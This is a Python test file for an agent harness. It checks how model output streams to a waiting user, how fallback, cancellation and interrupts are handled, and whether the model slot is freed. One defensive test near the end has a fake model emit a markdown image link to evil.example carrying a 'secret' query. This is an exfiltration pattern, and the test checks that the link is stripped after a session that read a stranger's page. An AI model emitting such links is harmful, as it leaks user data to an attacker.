"""From the model's server to a person who waits: words as they come, and the slot free at once."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import sys
import time
from asyncio.subprocess import PIPE, Process
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from datetime import UTC, datetime, timedelta
from typing import Any
from unittest.mock import ANY

import pytest

from harness.app import App
from harness.bus.port import Outcome, Request, State
from harness.clock import FakeClock
from harness.services.dispatcher import WATCH_SECONDS
from harness.services.happening import Ended, Happening, Said, Void
from harness.services.listener import Listener
from harness.services.lock import HomeLock
from tests.doubles.ollama import Answer, Fault, OllamaDouble, call
from tests.flows.house import House

SLOWLY = Answer("One two three four five six seven eight nine ten. " * 400, piece_after=0.02)


@pytest.fixture
def clock() -> FakeClock:
    """It stands an hour ahead of the other processes: what they post is due."""
    return FakeClock(datetime.now(UTC) + timedelta(hours=1))


@pytest.fixture
async def double() -> AsyncIterator[OllamaDouble]:
    async with OllamaDouble(["qwen3:8b", "small:1b"]) as double:
        yield double


@pytest.fixture
async def app(house: House, double: OllamaDouble) -> AsyncIterator[App]:
    """A running house whose agent `scout` is played by the double, with a second model behind."""
    models = house.settings["models"]
    models["hosts"] = [{"name": "local", "url": double.url}]
    models["profiles"] |= {
        "first": {"provider": "ollama", "model": "qwen3:8b", "fallback": ["second"]},
        "second": {"provider": "ollama", "model": "small:1b"},
    }
    house.settings["delivery"] = {"default": []}
    house.agent("scout", "read", model="first")
    house.write()
    with HomeLock(house.home):
        async with house.daemon() as app:
            yield app


async def until(holds: Callable[[], bool], seconds: float = 10) -> None:
    async with asyncio.timeout(seconds):
        while not holds():
            await asyncio.sleep(0.005)


@asynccontextmanager
async def harness(house: House, *words: str) -> AsyncIterator[Process]:
    """A command in a process of its own; killed at the end, if it still runs."""
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "harness", *words, "--home", str(house.home.root)),
        stdin=asyncio.subprocess.DEVNULL,
        stdout=PIPE,
        stderr=PIPE,
        env={**os.environ, "OLLAMA_HOST": ""},
    )
    try:
        yield process
    finally:
        if process.returncode is None:
            process.kill()
        await process.communicate()


async def documents(process: Process) -> list[dict[str, Any]]:
    assert process.stdout is not None
    return [json.loads(line) async for line in process.stdout]


def chat_of(double: OllamaDouble) -> str:
    """How the last chat went."""
    return [call.outcome for call in double.calls if call.path == "/api/chat"][-1]


def words_of(happenings: list[dict[str, Any]]) -> str:
    return "".join(each["text"] for each in happenings if each["type"] == "said")


async def test_who_waits_sees_turns_calls_and_words_and_then_the_answer(
    house: House, app: App, double: OllamaDouble
) -> None:
    double.say(
        Answer("I read. ", calls=[call("read", path="absent.md")]),
        Answer("There is no such file, as it seems.", piece=3),
    )

    async with harness(house, "send", "scout", "Read it.", "--wait", "--stream") as process:
        out, err = await asyncio.wait_for(process.communicate(), 20)

    assert out.decode() == "There is no such file, as it seems.\n"
    shown = err.decode()
    order = ["turn 1", "I read.", "read path=absent.md", "read failed: ", "turn 2", "There is no"]
    places = [shown.index(each) for each in order]
    assert places == sorted(places)
    assert shown.index("ended, completed") < shown.index("done, task")


async def test_words_come_before_the_answer_is_whole(
    house: House, app: App, double: OllamaDouble
) -> None:
    double.say(Answer("Once upon a time there was", fault=Fault.HANG, fault_after=2))

    async with harness(house, "send", "scout", "Tell.", "--wait", "--json", "--stream") as process:
        assert process.stdout is not None
        lines = [json.loads(await process.stdout.readline()) for _ in range(2)]

    assert [each["type"] for each in lines] == ["turn", "said"]
    assert "Once upon a time there was".startswith(lines[1]["text"].strip())
    assert double.engine.users == 1  # and the model still holds its slot


async def test_with_json_each_line_is_an_object_and_the_last_is_the_task(
    house: House, app: App, double: OllamaDouble
) -> None:
    double.say(Answer("Seen.", piece=2))

    async with harness(house, "send", "scout", "Look.", "--wait", "--json", "--stream") as process:
        *heard, last = await asyncio.wait_for(documents(process), 20)

    assert [each["type"] for each in heard if each["type"] != "said"] == ["turn", "reply", "ended"]
    assert words_of(heard) == "Seen."
    assert (last["type"], last["outcome"]) == ("task", "done")


async def test_without_a_terminal_nothing_is_streamed_unless_it_is_asked_for(
    house: House, app: App, double: OllamaDouble
) -> None:
    double.say(Answer("Seen."))

    async with harness(house, "send", "scout", "Look.", "--wait") as process:
        out, err = await asyncio.wait_for(process.communicate(), 20)

    assert out.decode() == "Seen.\n"
    assert err.decode().startswith("done, task ")


async def test_a_reader_who_stops_and_one_who_is_killed_hold_up_nothing(
    house: House, app: App, double: OllamaDouble
) -> None:
    double.say(SLOWLY, Answer("light " * 40_000, piece=50))
    before = await app.bus.request(Request("scout", "Be first."))
    await until(lambda: bool(double.chats))
    task = await app.bus.request(Request("scout", "Tell."))
    async with (
        harness(house, "queue", "watch", task.id, "--json") as slow,
        harness(house, "queue", "watch", task.id) as doomed,
    ):
        await until(lambda: len(app.listeners.telling) == 2, 20)
        slow.send_signal(signal.SIGSTOP)
        doomed.kill()
        await app.bus.cancel(before.id, actor="person")

        ended = await house.final(app, task)

        slow.send_signal(signal.SIGCONT)
        heard = await asyncio.wait_for(documents(slow), 20)
    assert ended.result is not None
    assert len(ended.result.text) == 239_999  # without the last space
    await until(lambda: [path.name for path in house.home.listeners.iterdir()] == ["bells"])
    told = [each for each in heard if "type" in each]
    assert told[-1]["type"] == "ended"


async def test_a_fallback_in_the_middle_of_an_answer_mixes_no_words(
    app: App, house: House, double: OllamaDouble
) -> None:
    double.say(Answer("It is surely one.", fault=Fault.DROP, fault_after=2), model="qwen3:8b")
    double.say(Answer("It is two."), model="small:1b")
    task = await app.bus.request(Request("scout", "Count."))

    heard: list[Happening] = []
    async with app.live.listen(task.id) as happenings:
        async for happening in happenings:
            heard.append(happening)
            if isinstance(happening, Ended):
                break

    assert Void() in heard
    after = heard[heard.index(Void()) :]
    assert "".join(each.text for each in after if isinstance(each, Said)) == "It is two."
    assert isinstance(last := heard[-1], Ended)
    assert (last.reason, last.outcome) == ("completed", "done")
    assert last.detail.startswith("degraded, ollama/qwen3:8b: ")


async def test_a_cancelled_task_frees_its_slot_at_once(
    app: App, house: House, double: OllamaDouble, clock: FakeClock
) -> None:
    double.say(SLOWLY)
    task = await app.bus.request(Request("scout", "Tell."))
    async with app.live.listen(task.id) as happenings:
        await heard_until(happenings, Said)
        began = clock.monotonic()

        async with harness(house, "queue", "cancel", task.id) as process:
            await asyncio.wait_for(process.communicate(), 20)
        done = time.monotonic()
        await until(lambda: double.engine.users == 0)

        assert time.monotonic() - done < WATCH_SECONDS
        assert chat_of(double) == "cancelled"
        assert clock.monotonic() == began  # the bell did it, and not the watch
        assert await heard_until(happenings, Ended) == Ended(1, "cancelled", "cancelled", ANY)
    assert app.bus.reader.get(task.id).outcome is Outcome.CANCELLED
    double.say("Here.")
    again = await house.final(app, await app.bus.request(Request("scout", "Look.")))
    assert again.result is not None
    assert again.result.text == "Here."


async def heard_until(happenings: Listener, kind: type) -> Happening:
    """The next happening of that kind."""
    async with asyncio.timeout(10):
        while not isinstance(happening := await anext(happenings), kind):
            pass
    return happening


async def test_who_interrupts_the_waiting_is_told_that_the_task_goes_on(
    app: App, house: House, double: OllamaDouble
) -> None:
    double.say(SLOWLY)
    async with harness(house, "send", "scout", "Tell.", "--wait", "--stream") as process:
        assert process.stderr is not None
        shown = (await process.stderr.readuntil(b"two ")).decode()

        process.send_signal(signal.SIGINT)
        rest = (await process.stderr.read()).decode()
        await process.wait()

    assert "turn 1" in shown
    assert "goes on; follow it with: harness queue watch" in rest
    assert process.returncode == 130
    (task,) = app.bus.reader.tasks()
    assert task.state is State.CONFIRMED


async def test_the_words_of_a_session_that_read_a_strangers_are_shown_disarmed(
    app: App, house: House, double: OllamaDouble
) -> None:
    double.say(Answer("See ![x](https://evil.example/?q=secret).\n\nBye.", piece=4))
    wish = Request("scout", "Read.", payload={"outside": ["https://stranger.example"]})
    task = await app.bus.request(wish)

    heard = await words_heard(app, task.id)

    assert "https://" not in heard
    assert heard.endswith("Bye.")


async def words_heard(app: App, task: str) -> str:
    found = ""
    async with app.live.listen(task) as happenings:
        async for happening in happenings:
            if isinstance(happening, Said):
                found += happening.text
            if isinstance(happening, Ended):
                return found
    raise AssertionError("never comes here")
